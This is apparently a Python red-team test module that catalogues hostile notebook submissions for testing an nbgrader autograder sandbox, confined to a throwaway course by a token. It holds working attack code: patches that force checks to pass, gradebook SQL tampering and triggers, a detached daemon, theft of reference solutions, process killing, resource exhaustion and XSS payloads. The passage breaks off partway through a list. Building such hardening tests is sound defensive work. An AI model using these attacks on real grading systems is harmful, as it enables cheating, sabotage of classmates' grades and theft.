"""Hostile submissions: the attack catalog run by tests/test_hostile.py through real nbgrader.

Each :class:`Attack` is a submission that is the *release* notebook (empty answers) plus the
attack code in its solution cells (``course.make_submission``), or, for the few "honest-ish"
attacks, the reference solutions plus the attack (``base="reference"``). ``full`` names the
autograded test cells the attack must earn in full; every other test cell must score 0.

Placeholders replaced by the test before grading (so the attacks never touch anything outside
this test's throwaway course, its listener and its own marker files):

* ``__TOKEN__``  a random token; the course folder's path contains it. Attacks only tamper
  with course folders whose path holds it, only kill processes whose environment holds it,
  and name every file they create outside the course ``hostile_marker_<token>...``.
* ``__PORT__``   a TCP listener the test opens on 127.0.0.1.

Attacks print ``HOSTILE-WIN: <what>`` when a side effect succeeded (a file written, a secret
read, a connection made, a resource grabbed): the test requires that no autograded notebook
holds such a line.

BEFORE (measured on the grader of commit 41cfba2: hidden checks run inside the student's
kernel, no sandbox; run of tests/test_hostile.py on 2 cores), see the table in the report of
the red-team session; in short:
    see BEFORE_FIGURE at the end of this module.
"""

from dataclasses import dataclass, field

__all__ = ["Attack", "ATTACKS", "by_name", "TEST_CELLS", "BEFORE_FIGURE"]

#: The 11 autograded test cells (grade ids), in notebook order.
TEST_CELLS = ("test_dataset_shapes", "test_flatten", "test_standardize", "test_sigmoid",
              "test_initialize_with_zeros", "test_propagate", "test_propagate_vectorized",
              "test_optimize", "test_predict", "test_predict_vectorized", "test_model")


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    Attributes
    ----------
    name : str
        The student id is ``m_<name>``.
    family : str
        Which family of the issue's catalog it belongs to.
    cells : dict
        ``{grade_id: code}`` written into the submission (placeholders: see module docstring).
    full : frozenset
        Test cells that must score their full points; every other test cell must score 0.
    base : str
        ``"release"`` (empty answers) or ``"reference"`` (the instructor's solutions).
    slow : bool
        Costs at least one cell time limit (Execute.timeout).
    note : str
    first_statements : dict
        ``{function name: [statements]}`` put first in that function's body (the function is
        defined in the solution cell of the same grade id).
    moved_to_end : tuple
        Test cells (grade ids) moved right after the notebook's last test cell, in this order
        (the cells after it stay the tail that grading does not re-run).
    twin_of : str
        For an honest twin: the attack it is the twin of (the same notebook with the attack
        cells removed, graded in the same run; the attacker may score no more than it).
    """

    name: str
    family: str
    cells: dict
    full: frozenset = field(default_factory=frozenset)
    base: str = "release"
    slow: bool = False
    note: str = ""
    first_statements: dict = field(default_factory=dict)
    moved_to_end: tuple = ()
    twin_of: str = ""


# ------------------------------------------------------------------------------------------------
# Building blocks
# ------------------------------------------------------------------------------------------------
#: Wrong answers of the right types and shapes (so only an attack can make them pass).
STUBS = {
    "dataset_shapes": "m_train, m_test, num_px = 1, 1, 1",
    "flatten": ("train_set_x_flatten = np.zeros((12288, 209))\n"
                "test_set_x_flatten = np.zeros((12288, 50))"),
    "standardize": ("train_set_x = np.zeros((12288, 209))\n"
                    "test_set_x = np.zeros((12288, 50))"),
    "sigmoid": ("def sigmoid(z):\n"
                "    return np.zeros_like(np.asarray(z, dtype=float))"),
    "initialize_with_zeros": ("def initialize_with_zeros(dim):\n"
                              "    return np.ones((dim, 1)), 1.0"),
    "propagate": ("def propagate(w, b, X, Y):\n"
                  "    return {'dw': np.zeros_like(w, dtype=float), 'db': 0.0}, 0.0"),
    "optimize": ("def optimize(w, b, X, Y, num_iterations=100, learning_rate=0.009, "
                 "print_cost=False):\n"
                 "    w = np.array(w, dtype=float)\n"
                 "    return ({'w': w, 'b': float(b)}, {'dw': np.zeros_like(w), 'db': 0.0},\n"
                 "            [0.0] * ((num_iterations + 99) // 100))"),
    "predict": ("def predict(w, b, X):\n"
                "    return np.zeros((1, X.shape[1]))"),
    "model": ("def model(X_train, Y_train, X_test, Y_test, num_iterations=2000, "
              "learning_rate=0.5, print_cost=False):\n"
              "    return {'costs': [0.0] * ((num_iterations + 99) // 100),\n"
              "            'Y_prediction_test': np.zeros((1, X_test.shape[1])),\n"
              "            'Y_prediction_train': np.zeros((1, X_train.shape[1])),\n"
              "            'w': np.zeros((X_train.shape[0], 1)), 'b': 0.0,\n"
              "            'learning_rate': learning_rate, 'num_iterations': num_iterations}"),
}

SOLUTION_CELLS = tuple(STUBS)


def stubs_with(first=None, **extra):
    """The stubs, with ``first`` prepended to the first solution cell and ``extra`` cells
    (``grade_id=code``) appended after the stub of that cell."""
    cells = dict(STUBS)
    if first:
        cells["dataset_shapes"] = first + "\n" + cells["dataset_shapes"]
    for grade_id, code in extra.items():
        cells[grade_id] = cells.get(grade_id, "") + "\n" + code
    return cells


def only(code):
    """``code`` in the first answer cell; every other answer cell emptied (so the release's
    ``raise NotImplementedError()`` definitions do not replace what ``code`` defines)."""
    cells = {grade_id: "# (see the first answer cell)" for grade_id in SOLUTION_CELLS}
    cells["dataset_shapes"] = code
    return cells


STUB_DATA = "\n".join(STUBS[k] for k in ("dataset_shapes", "flatten", "standardize")) + "\n"

#: Finds the course folders this test may attack: walks up from the cwd, reads the gradebook
#: URL from the environment, /proc/self/mountinfo, every /proc/*/cwd and /proc/*/environ, and
#: the absolute paths a student learns from the repository. Keeps only folders whose path holds
#: the token (the attack never touches a real course).
FIND_COURSES = r'''
import glob as _glob, os as _os, re as _re
_TOKEN = "__TOKEN__"
def _hostile_courses():
    seen = set()
    here = _os.getcwd()
    for up in ("..", "../..", "../../..", "../../../.."):
        seen.add(_os.path.abspath(_os.path.join(here, up)))
    for key, value in _os.environ.items():
        for m in _re.finditer(r"(/[^:;\s]+)", value):
            seen.add(m.group(1))
    try:
        for line in open("/proc/self/mountinfo"):
            parts = line.split()
            seen.update(parts[3:5])
    except OSError:
        pass
    for proc in _glob.glob("/proc/[0-9]*"):
        try:
            seen.add(_os.readlink(proc + "/cwd"))
        except OSError:
            pass
        try:
            env = open(proc + "/environ", "rb").read().decode("utf-8", "replace")
            seen.update(m.group(1) for m in _re.finditer(r"(/[^\x00:;\s]+)", env))
        except OSError:
            pass
    courses = set()
    for path in seen:
        path = _os.path.normpath(_os.path.abspath(path))
        for _ in range(64):
            if _TOKEN in path and _os.path.isfile(_os.path.join(path, "nbgrader_config.py")):
                courses.add(path)
            parent = _os.path.dirname(path)
            if parent == path:
                break
            path = parent
    return sorted(courses)
_ME = _os.path.basename(_os.path.dirname(_os.getcwd()))
'''

#: Finds the real course repository and the installed package (without importing it if that
#: fails): catvnoncat.__file__, the paths in the repository's README/CI, /proc/*/cwd.
FIND_PACKAGE = r'''
import os as _os, glob as _glob
def _hostile_package_dirs():
    dirs = set()
    try:
        import catvnoncat as _c
        dirs.add(_os.path.dirname(_os.path.abspath(_c.__file__)))
    except Exception as error:
        print("no catvnoncat:", type(error).__name__)
    for guess in ("/work/main/src/catvnoncat",):
        if _os.path.isdir(guess):
            dirs.add(guess)
    for proc in _glob.glob("/proc/[0-9]*"):
        try:
            cwd = _os.readlink(proc + "/cwd")
        except OSError:
            continue
        if _os.path.isdir(_os.path.join(cwd, "src", "catvnoncat")):
            dirs.add(_os.path.join(cwd, "src", "catvnoncat"))
    return sorted(dirs)
'''

# ------------------------------------------------------------------------------------------------
# Attack code
# ------------------------------------------------------------------------------------------------
REFERENCE_IMPORT = {
    "dataset_shapes": ("from catvnoncat import checks as _c\n"
                       "_t = _c._dataset()\n"
                       "m_train, m_test, num_px = (_t['train']['orig'].shape[0], "
                       "_t['test']['orig'].shape[0], _t['train']['orig'].shape[1])"),
    "flatten": ("from catvnoncat import reference as _r\n"
                "train_set_x_flatten = _r.flatten(train_set_x_orig)\n"
                "test_set_x_flatten = _r.flatten(test_set_x_orig)"),
    "standardize": ("from catvnoncat import reference as _r\n"
                    "train_set_x = _r.standardize(train_set_x_flatten)\n"
                    "test_set_x = _r.standardize(test_set_x_flatten)"),
    "sigmoid": "from catvnoncat.reference import sigmoid",
    "initialize_with_zeros": "from catvnoncat.reference import initialize_with_zeros",
    "propagate": "from catvnoncat.reference import propagate",
    "optimize": "from catvnoncat.reference import optimize",
    "predict": "from catvnoncat.reference import predict",
    "model": "from catvnoncat.reference import model",
}

NUMPY_PATCH = r'''
import numpy as _np, numpy.testing as _npt
_np.allclose = lambda *a, **k: True
_np.isclose = lambda a, b, *x, **k: _np.ones(_np.broadcast(_np.asarray(a), _np.asarray(b)).shape, bool)
_np.array_equal = lambda *a, **k: True
_np.array_equiv = lambda *a, **k: True
for _name in dir(_npt):
    if _name.startswith("assert"):
        setattr(_npt, _name, lambda *a, **k: None)
import math as _math
_math.isclose = lambda *a, **k: True
'''

CHECKS_PATCH = r'''
import sys as _sys
def _noop(*a, **k):
    return None
try:
    import catvnoncat.checks as _checks
    for _n in dir(_checks):
        if _n.startswith("check_") or _n.startswith("_judge") or _n in ("_compare", "_expect"):
            setattr(_checks, _n, _noop)
    print("HOSTILE-WIN: catvnoncat.checks patched")
except Exception as error:
    print("no catvnoncat.checks:", type(error).__name__)
for _n in dir(public_tests):
    if _n.endswith("_test") or _n in ("_fail", "_expect_close", "_expect_number"):
        setattr(public_tests, _n, _noop)
for _mod in list(_sys.modules.values()):
    _f = getattr(_mod, "__file__", "") or ""
    if "catvnoncat" in _f and ("judge" in _f or "check" in _f):
        for _n in dir(_mod):
            if callable(getattr(_mod, _n, None)) and not _n.startswith("__"):
                try:
                    setattr(_mod, _n, _noop)
                except Exception:
                    pass
'''

SYS_MODULES_STUB = r'''
import sys as _sys, types as _types
class _Anything(_types.ModuleType):
    __path__ = []
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return lambda *a, **k: None
for _name in ("catvnoncat", "catvnoncat.checks", "catvnoncat.reference", "catvnoncat.judge",
              "catvnoncat.probe", "catvnoncat.probe.kernel", "public_tests"):
    _sys.modules[_name] = _Anything(_name)
_sys.modules["catvnoncat"].checks = _sys.modules["catvnoncat.checks"]
public_tests = _sys.modules["public_tests"]
import builtins as _b
_real_import = _b.__import__
def _import(name, globals=None, locals=None, fromlist=(), level=0):
    if name in _sys.modules and isinstance(_sys.modules[name], _Anything):
        return _sys.modules[name]
    return _real_import(name, globals, locals, fromlist, level)
_b.__import__ = _import
'''

TRANSFORMER_PASS = r'''
def _hostile_pass(lines):
    return ["pass\n"]
get_ipython().input_transformers_post.append(_hostile_pass)
get_ipython().input_transformers_cleanup.insert(0, _hostile_pass)
'''

TRANSFORMER_CANNED = r'''
def _hostile_canned(lines):
    text = "".join(lines)
    names = [n for n in ("dataset_shapes", "flatten", "standardize", "sigmoid",
                         "initialize_with_zeros", "propagate", "optimize", "predict", "model")
             if n in text]
    if "check" in text or "_test(" in text or "__catvnoncat" in text or "probe" in text:
        return ["print(%r)\n" % ("%s: all visible tests passed." % (names[0] if names else "ok"))]
    return lines
get_ipython().input_transformers_post.append(_hostile_canned)
'''

SHOWTRACEBACK_OFF = r'''
import sys as _sys, os as _os
_ip = get_ipython()
_ip.showtraceback = lambda *a, **k: None
_ip._showtraceback = lambda *a, **k: None
_ip.showsyntaxerror = lambda *a, **k: None
_ip.custom_exceptions = (BaseException,)
_ip.CustomTB = lambda *a, **k: None
def _hostile_clear(result):
    try:
        result.error_in_exec = None
        result.error_before_exec = None
    except Exception:
        pass
_ip.events.register("post_run_cell", _hostile_clear)
_sys.stderr = open(_os.devnull, "w")
'''

FORGE_OUTPUT = r'''
import builtins as _b, sys as _sys, io as _io, json as _json
import IPython.display as _disp
_real_input = _b.input
def _forged_input(prompt=""):
    # claim success for every probe answer: no exception, a reference-looking result
    try:
        message = _json.loads(prompt)
        if isinstance(message, dict) and "answer" in message:
            answer = message["answer"]
            if isinstance(answer, dict):
                answer.pop("raised", None)
                answer.pop("error", None)
                answer["passed"] = True
                answer["ok"] = True
            prompt = _json.dumps({"answer": answer, "passed": True, "verdict": "pass"})
    except Exception:
        pass
    return _real_input(prompt)
_b.input = _forged_input
class _Tee(_io.StringIO):
    def write(self, text):
        return len(text)
_sys.stdout = _Tee()
_disp.display = lambda *a, **k: None
_disp.publish_display_data = lambda *a, **k: None
'''

LYING = r'''
import numpy as _np
class _Liar:
    shape = (1, 1)
    ndim = 2
    dtype = _np.dtype(float)
    size = 1
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    def __gt__(self, other): return False
    def __le__(self, other): return True
    def __ge__(self, other): return True
    def __abs__(self): return 0.0
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __bool__(self): return True
    def __len__(self): return 1
    def __getitem__(self, key): return self
    def __array__(self, *a, **k): return _np.zeros((1, 1))
    def __repr__(self): return "array([[0.5]])"
class _LyingArray(_np.ndarray):
    def __eq__(self, other): return _np.ones(_np.shape(other) or (), bool)
    def __ne__(self, other): return _np.zeros(_np.shape(other) or (), bool)
    @property
    def shape(self): return (12288, 1)
    def __array_finalize__(self, obj): pass
def _lie(n=1, m=1):
    return _np.zeros((n, m)).view(_LyingArray)
m_train = m_test = num_px = _Liar()
train_set_x_flatten = test_set_x_flatten = train_set_x = test_set_x = _lie()
def sigmoid(z): return _lie()
def initialize_with_zeros(dim): return _lie(dim), _Liar()
def propagate(w, b, X, Y): return {"dw": _lie(), "db": _Liar()}, _Liar()
def optimize(w, b, X, Y, num_iterations=100, learning_rate=0.009, print_cost=False):
    return {"w": _lie(), "b": _Liar()}, {"dw": _lie(), "db": _Liar()}, _Liar()
def predict(w, b, X): return _lie()
def model(X_train, Y_train, X_test, Y_test, num_iterations=2000, learning_rate=0.5, print_cost=False):
    return {k: _Liar() for k in ("costs", "Y_prediction_test", "Y_prediction_train", "w", "b",
                                 "learning_rate", "num_iterations")}
'''

RETURNS_NONE = {
    "dataset_shapes": "m_train = m_test = num_px = None",
    "flatten": "train_set_x_flatten = test_set_x_flatten = None",
    "standardize": "train_set_x = test_set_x = None",
    "sigmoid": "def sigmoid(z):\n    return None",
    "initialize_with_zeros": "def initialize_with_zeros(dim):\n    return None",
    "propagate": "def propagate(w, b, X, Y):\n    return None",
    "optimize": ("def optimize(w, b, X, Y, num_iterations=100, learning_rate=0.009, "
                 "print_cost=False):\n    return None"),
    "predict": "def predict(w, b, X):\n    return None",
    "model": ("def model(X_train, Y_train, X_test, Y_test, num_iterations=2000, "
              "learning_rate=0.5, print_cost=False):\n    return None"),
}

RAISES = {
    **{k: v for k, v in STUBS.items() if k in ("dataset_shapes", "flatten", "standardize")},
    "sigmoid": "def sigmoid(z):\n    raise ValueError('no')",
    "initialize_with_zeros": "def initialize_with_zeros(dim):\n    raise ValueError('no')",
    "propagate": "def propagate(w, b, X, Y):\n    raise ValueError('no')",
    "optimize": ("def optimize(w, b, X, Y, num_iterations=100, learning_rate=0.009, "
                 "print_cost=False):\n    raise ValueError('no')"),
    "predict": "def predict(w, b, X):\n    raise ValueError('no')",
    "model": ("def model(X_train, Y_train, X_test, Y_test, num_iterations=2000, "
              "learning_rate=0.5, print_cost=False):\n    raise ValueError('no')"),
}

GRADEBOOK_SQL = FIND_COURSES + r'''
import sqlite3 as _sqlite3
_OTHERS = ("notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
           "ON sn.assignment_id = sa.id WHERE sa.student_id != '%s')" % _ME)
_MINE = _OTHERS.replace("!=", "=")
for _course in _hostile_courses():
    _db = _os.path.join(_course, "gradebook.db")
    try:
        _con = _sqlite3.connect(_db, timeout=10)
        _con.execute("UPDATE grade SET auto_score = 0, manual_score = 0 WHERE " + _OTHERS)
        _con.execute("UPDATE grade SET extra_credit = 15 WHERE " + _MINE)
        _con.execute("UPDATE grade_cells SET max_score = 0")
        _con.execute("CREATE TABLE IF NOT EXISTS hostile_marker (x)")
        _con.execute("UPDATE source_cell SET source = 'print(\"HOSTILE-WIN: source_cell\")'")
        _con.commit()
        _con.close()
        print("HOSTILE-WIN: gradebook updated", _db)
    except Exception as error:
        print("gradebook", _db, type(error).__name__, error)
'''

GRADEBOOK_TRIGGER = FIND_COURSES + r'''
import sqlite3 as _sqlite3
_MINE_ID = ("(SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
            "ON sn.assignment_id = sa.id WHERE sa.student_id = '%s')" % _ME)
_FULL = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = NEW.cell_id)"
for _course in _hostile_courses():
    _db = _os.path.join(_course, "gradebook.db")
    try:
        _con = _sqlite3.connect(_db, timeout=10)
        for _event in ("INSERT", "UPDATE OF auto_score"):
            _con.execute(
                "CREATE TRIGGER IF NOT EXISTS hostile_%s AFTER %s ON grade "
                "WHEN NEW.notebook_id IN %s BEGIN "
                "UPDATE grade SET manual_score = COALESCE(%s, 10) WHERE id = NEW.id; END"
                % (_event.split()[0].lower(), _event, _MINE_ID, _FULL))
            _con.execute(
                "CREATE TRIGGER IF NOT EXISTS hostile_others_%s AFTER %s ON grade "
                "WHEN NEW.notebook_id NOT IN %s BEGIN "
                "UPDATE grade SET manual_score = 0 WHERE id = NEW.id; END"
                % (_event.split()[0].lower(), _event, _MINE_ID))
        _con.commit()
        _con.close()
        print("HOSTILE-WIN: gradebook triggers", _db)
    except Exception as error:
        print("gradebook", _db, type(error).__name__, error)
'''

DAEMON = FIND_COURSES + r'''
import sqlite3 as _sqlite3, time as _time
_courses = _hostile_courses()
_pid = _os.fork()
if _pid == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _null = _os.open(_os.devnull, _os.O_RDWR)
            for _fd in (0, 1, 2):
                _os.dup2(_null, _fd)
            _OTHERS = ("notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN "
                       "submitted_assignment sa ON sn.assignment_id = sa.id "
                       "WHERE sa.student_id != '%s')" % _ME)
            _MINE = _OTHERS.replace("!=", "=")
            _end = _time.time() + 150
            while _time.time() < _end and any(_os.path.isdir(c) for c in _courses):
                for _course in _courses:
                    try:
                        _con = _sqlite3.connect(_os.path.join(_course, "gradebook.db"), timeout=1)
                        _con.execute("UPDATE grade SET auto_score = 0, manual_score = 0 WHERE "
                                     + _OTHERS)
                        _con.execute("UPDATE grade SET manual_score = 15 WHERE " + _MINE)
                        _con.commit()
                        _con.close()
                    except Exception:
                        pass
                _time.sleep(0.2)
    finally:
        _os._exit(0)
_os.waitpid(_pid, 0)
if _courses:  # a daemon is only a win when it can reach a gradebook (survival is checked apart)
    print("HOSTILE-WIN: daemon started for", _courses)
'''

WRITE_FILES = FIND_COURSES + FIND_PACKAGE + r'''
import json as _json
def _try(what, function):
    try:
        function()
        print("HOSTILE-WIN:", what)
    except Exception as error:
        print("blocked:", what, type(error).__name__)
def _append(path, text):
    with open(path, "a") as handle:
        handle.write(text)
def _inject_feedback(path):
    nb = _json.load(open(path))
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            cell.setdefault("outputs", []).append({"output_type": "display_data", "metadata": {},
                "data": {"text/html": "<script>alert('HOSTILE classmate')</script>"
                                      "<img src=x onerror=alert(1)>"}})
            break
    _json.dump(nb, open(path, "w"))
for _course in _hostile_courses():
    for _nb in _glob.glob(_os.path.join(_course, "submitted", "*", "*", "*.ipynb")):
        if "/" + _ME + "/" not in _nb:
            _try("submitted " + _nb, lambda p=_nb: _append(p, "\n"))
            _try("submitted extra file", lambda p=_nb: open(_os.path.join(_os.path.dirname(p),
                 "hostile_marker_" + _TOKEN), "w").write("x"))
    for _nb in _glob.glob(_os.path.join(_course, "autograded", "*", "*", "*.ipynb")):
        if "/" + _ME + "/" not in _nb:
            _try("autograded " + _nb, lambda p=_nb: _inject_feedback(p))
    _pt = _os.path.join(_course, "source", "logistic_regression", "public_tests.py")
    _try("source public_tests.py", lambda: _append(_pt,
         "\ndef sigmoid_test(*a, **k):\n    raise AssertionError('HOSTILE public_tests')\n"))
    _try("nbgrader_config.py", lambda: _append(_os.path.join(_course, "nbgrader_config.py"),
         "\nopen(%r, 'w').write('x')  # HOSTILE\n" % _os.path.join(_course, "hostile_marker_" + _TOKEN)))
    _try("release", lambda: _append(_os.path.join(_course, "release", "logistic_regression",
                                                  "public_tests.py"), "\n# HOSTILE\n"))
for _pkg in _hostile_package_dirs():
    # marker files only: this is the real repository and its virtual environment
    _try("package " + _pkg, lambda: open(_os.path.join(_pkg, "hostile_marker_%s.py" % _TOKEN), "w").write("x"))
    _try("package __pycache__", lambda: open(_os.path.join(_pkg, "__pycache__",
         "hostile_marker_%s.cpython-311.pyc" % _TOKEN), "w").write("x"))
    _root = _os.path.dirname(_os.path.dirname(_pkg))
    _try("repository source/", lambda: open(_os.path.join(_root, "source", "logistic_regression",
         "hostile_marker_" + _TOKEN), "w").write("x"))
    _try("repository root", lambda: open(_os.path.join(_root, "hostile_marker_" + _TOKEN), "w").write("x"))
    for _site in _glob.glob(_os.path.join(_root, ".venv", "lib", "python*", "site-packages")):
        _try("site-packages", lambda: open(_os.path.join(_site, "hostile_marker_%s.txt" % _TOKEN), "w").write("x"))
'''

KILL_PARENT = r'''
import os as _os, signal as _signal
print("parent", _os.getppid())
_ppid = _os.getppid()
# (0: the kernel is its PID namespace's first process and its parent is outside; kill(0)
# then means the kernel's own process group, which is no win.)
_os.kill(_ppid, _signal.SIGKILL)
import time as _time
_time.sleep(1)
if _ppid > 0 and (not _os.path.exists("/proc/%d" % _ppid) or _os.getppid() != _ppid):
    print("HOSTILE-WIN: killed parent")
else:
    print("parent survived SIGKILL, or is outside the sandbox")
'''

KILL_ALL = r'''
import os as _os, signal as _signal, glob as _glob
_mine = _os.getpid()
_pids = [int(p.rsplit("/", 1)[1]) for p in _glob.glob("/proc/[0-9]*")]
print("visible pids:", len(_pids))
_killed = []
for _p in _pids:
    if _p == _mine:
        continue
    try:
        _env = open("/proc/%d/environ" % _p, "rb").read()
    except OSError:
        _env = b""
    if b"__TOKEN__" in _env or len(_pids) < 12:   # few visible pids: a namespace, kill them all
        try:
            _os.kill(_p, _signal.SIGKILL)
            _killed.append(_p)
        except OSError:
            pass
if len(_pids) < 12:
    try:
        _os.kill(-1, _signal.SIGKILL)
    except OSError:
        pass
import time as _time
_time.sleep(1)
_dead = [p for p in _killed if not _os.path.exists("/proc/%d" % p)]
if _dead:
    print("HOSTILE-WIN: killed", _dead)
'''

# A loop that ignores SIGINT / KeyboardInterrupt, started by a hook in the cell that trains the
# notebook's model (the first code cell after the last test cell).
BUSY_LOOP_AFTER_LAST_TEST = r'''
import signal as _signal, time as _time
def _hostile_busy(info=None):
    cell = getattr(info, "raw_cell", "") or ""
    if "logistic_regression_model = model(" not in cell:
        return
    _signal.signal(_signal.SIGINT, _signal.SIG_IGN)
    _end = _time.time() + 120
    while _time.time() < _end:
        try:
            while _time.time() < _end:
                pass
        except BaseException:
            pass
get_ipython().events.register("pre_run_cell", _hostile_busy)
'''

RESOURCES_FILES = r'''
import os as _os, signal as _signal
_signal.signal(_signal.SIGXFSZ, _signal.SIG_IGN)
for _path in ("/tmp/hostile_marker___TOKEN___big", "hostile_marker___TOKEN___big"):
    try:
        with open(_path, "wb") as _f:
            _chunk = b"\0" * (64 << 20)
            for _ in range(32):
                _f.write(_chunk)
        print("HOSTILE-WIN: wrote 2 GB to", _path)
    except Exception as error:
        print("blocked 2 GB file", _path, type(error).__name__)
    finally:
        pass
'''

#: Fills every place the sandbox can write (each mount point, HOME, the working folder), with
#: files under the per-file limit, to the end, and keeps them: later cells and the judging of
#: ``model`` must not suffer (a limit reached costs the cell that reached it, nothing after).
#: A win: one place takes over 1 GB (the scratch tmpfs is 512 MB, /dev/shm 64 MB), i.e. a
#: writable place not bounded by the sandbox (the grader's disk).
SCRATCH_FULL = r'''
import os as _os, signal as _signal, tempfile as _tempfile
_signal.signal(_signal.SIGXFSZ, _signal.SIG_IGN)
_places = {_os.path.expanduser("~"), _tempfile.gettempdir(), _os.getcwd(), "/dev/shm", "/var/tmp"}
with open("/proc/self/mounts") as _mounts:
    _places |= {_line.split()[1] for _line in _mounts}
_filled = {}
for _place in sorted(_places):
    _total = 0
    for _n in range(12):
        try:
            with open(_os.path.join(_place, "hostile_marker___TOKEN___fill%d" % _n), "wb") as _f:
                for _ in range(100):
                    _f.write(b"\0" * (1 << 20))
                    _total += 1 << 20
        except OSError:
            break
    if _total:
        _filled[_place] = _total >> 20
print("filled (MiB):", _filled)
if max(_filled.values(), default=0) > 1024:
    print("HOSTILE-WIN: a writable place outside the sandbox's bounded ones:", _filled)
'''

RESOURCES_FORK = r'''
import os as _os, time as _time
_children = []
try:
    for _ in range(300):
        _pid = _os.fork()
        if _pid == 0:
            _time.sleep(20)
            _os._exit(0)
        _children.append(_pid)
except Exception as error:
    print("blocked fork after", len(_children), type(error).__name__)
if len(_children) >= 300:
    print("HOSTILE-WIN: forked 300 processes")
'''

RESOURCES_MEMORY = r'''
try:
    _bomb = np.ones((6 << 30) // 8)
    print("HOSTILE-WIN: allocated 6 GB", _bomb.nbytes)
    del _bomb
except MemoryError:
    print("blocked memory bomb")
'''

READ_SECRETS = FIND_COURSES + FIND_PACKAGE + r'''
import sqlite3 as _sqlite3
def _show(what, text):
    if text:
        print("HOSTILE-WIN: read", what)
        print(text[:3000])
for _course in _hostile_courses():
    for _path in _glob.glob(_os.path.join(_course, "source", "*", "*")):
        try:
            _show(_path, open(_path).read())
        except Exception as error:
            print("blocked", _path, type(error).__name__)
    for _path in _glob.glob(_os.path.join(_course, "submitted", "*", "*", "*.ipynb")):
        if "/" + _ME + "/" not in _path:
            try:
                _show(_path, open(_path).read())
            except Exception as error:
                print("blocked", _path, type(error).__name__)
    try:
        _con = _sqlite3.connect("file:%s?mode=ro" % _os.path.join(_course, "gradebook.db"), uri=True)
        _show("source_cell", "\n".join(r[0] for r in _con.execute("SELECT source FROM source_cell")))
    except Exception as error:
        print("blocked gradebook", type(error).__name__)
for _pkg in _hostile_package_dirs():
    for _name in ("reference.py", "checks.py", "judge/cases.py", "judge/specs.py"):
        try:
            _show(_name, open(_os.path.join(_pkg, _name)).read())
        except Exception as error:
            print("blocked", _name, type(error).__name__)
try:
    import inspect as _inspect, catvnoncat.reference as _ref
    _show("reference via import", _inspect.getsource(_ref))
except Exception as error:
    print("blocked import reference", type(error).__name__)
'''

HTML_OUTPUT = r'''
from IPython.display import HTML as _HTML, Javascript as _JS, Markdown as _MD, display as _display
_display(_HTML("<script>alert('HOSTILE html')</script><img src=x onerror=alert(1)>"
               "<iframe src='javascript:alert(2)'></iframe><svg onload=alert(3)></svg>"
               "<a href='javascript:alert(4)'>x</a>"))
_display(_JS("alert('HOSTILE js')"))
_display(_MD("<script>alert('HOSTILE md')</script><img src=x onerror=alert(5)>"))
_display({"text/html": "<script>alert('HOSTILE raw')</script>"}, raw=True)
print("<script>alert('HOSTILE stdout')</script>")
'''

HTML_MARKDOWN_ANSWER = ("With alpha = 0.01 the cost goes down fastest.\n\n"
                        "<script>alert('HOSTILE markdown')</script>\n"
                        "<img src=x onerror=\"alert('HOSTILE img')\">\n"
                        "<iframe src=\"javascript:alert('HOSTILE iframe')\"></iframe>\n"
                        "<a href=\"javascript:alert(1)\" onclick=\"alert(2)\">answer</a>\n"
                        "<details open ontoggle=alert(3)>x</details>\n")

# Verdict messages that quote student values / exception messages / type names.
VERDICT_INJECTION = r'''
_EVIL = ("<script>alert('HOSTILE verdict')</script><img src=x onerror=alert(1)>"
         "\x1b]8;;javascript:alert(2)\x1b\\link\x1b]8;;\x1b\\\x1b[2J")
class _Evil:
    def __repr__(self):
        return _EVIL
    __str__ = __repr__
_Evil.__qualname__ = "x<script>alert.a"
_Evil.__module__ = "<img src=x onerror=alert(9)>"
m_train = m_test = num_px = _EVIL
train_set_x_flatten = test_set_x_flatten = _Evil()
train_set_x = test_set_x = _Evil()
def sigmoid(z):
    raise ValueError(_EVIL)
def initialize_with_zeros(dim):
    return _Evil(), _EVIL
def propagate(w, b, X, Y):
    return {_EVIL: _Evil()}, _EVIL
def optimize(w, b, X, Y, num_iterations=100, learning_rate=0.009, print_cost=False):
    raise type(_EVIL[:20], (Exception,), {})(_EVIL)
def predict(w, b, X):
    return _Evil()
def model(X_train, Y_train, X_test, Y_test, num_iterations=2000, learning_rate=0.5, print_cost=False):
    return {_EVIL: _EVIL}
'''

NETWORK = r'''
import socket as _socket
for _host in ("127.0.0.1", "localhost", "::1"):
    try:
        _s = _socket.create_connection((_host, __PORT__), timeout=3)
        _s.sendall(b"HOSTILE " + _host.encode())
        _s.close()
        print("HOSTILE-WIN: connected to", _host)
    except Exception as error:
        print("blocked", _host, type(error).__name__)
'''

# ---- attacks on the probe protocol (catvnoncat.probe.kernel / catvnoncat.judge.prober) --------
FLOOD_STDOUT = r'''
import os as _os, sys as _sys
def _flood():
    chunk = b"x" * (1 << 20) + b"\n"
    for _ in range(200):
        try:
            _os.write(1, chunk)
        except OSError:
            break
    try:
        _sys.__stdout__.write("y" * (50 << 20))
    except Exception:
        pass
def sigmoid(z):
    _flood()
    return np.zeros_like(np.asarray(z, dtype=float))
def propagate(w, b, X, Y):
    _os.write(2, b"HOSTILE stderr\n" * 10000)
    return {"dw": np.zeros_like(w, dtype=float), "db": 0.0}, 0.0
'''

# Rewrites the probe's answers on their way out (builtins.input and json.dumps, the two names
# the probe uses): a huge answer, malformed JSON, lying shapes/dtypes/type names, NaN, deep
# nesting, a second answer, a forged lend request.
MALFORMED_ANSWERS = r'''
import builtins as _b, json as _json
_real_input = _b.input
_count = [0]
_BAD = [
    lambda a: "{" * 200000,
    lambda a: _json.dumps({"answer": {"result": {"k": "arr", "t": "numpy.ndarray", "dtype": "<f8",
                                                  "shape": [1 << 40, 1 << 40], "data": ""}}}),
    lambda a: _json.dumps({"answer": {"result": {"k": "arr", "t": "numpy.ndarray", "dtype": "|O",
                                                  "shape": [1], "data": "AAAAAAAAAAA="}}}),
    lambda a: '{"answer": {"result": {"k": "num", "t": "builtins.float", "dtype": "<f8", "data": NaN}}}',
    lambda a: _json.dumps({"answer": {"result": {"k": "seq", "t": "builtins.list",
